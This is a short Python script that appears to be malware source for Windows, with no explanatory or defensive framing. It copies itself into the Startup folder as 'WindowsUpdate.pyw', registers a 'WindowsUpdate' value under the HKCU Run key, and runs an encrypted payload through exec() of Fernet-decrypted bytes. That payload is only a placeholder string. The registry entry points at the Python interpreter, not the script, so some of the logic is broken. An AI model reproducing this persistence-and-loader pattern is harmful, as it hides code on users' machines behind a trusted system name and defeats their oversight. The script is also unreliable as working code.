import os
import shutil
import sys
import winreg

from cryptography.fernet import Fernet

RUN = r"Software\Microsoft\Windows\CurrentVersion\Run"
STARTUP = os.path.join(os.getenv("APPDATA", ""), r"Microsoft\Windows\Start Menu\Programs\Startup")


def stay():
    shutil.copy(sys.argv[0], os.path.join(STARTUP, "WindowsUpdate.pyw"))
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)
    winreg.SetValueEx(key, "WindowsUpdate", 0, winreg.REG_SZ, sys.executable)


exec(Fernet(b"5Qk3xJ4w2m0n1b2v3c4x5z6a7s8d9f0g1h2j3k4l5m6=").decrypt(b"gAAAAABlZmFrZS1jaXBoZXJ0ZXh0LXN0YW5kLWlu"))
stay()
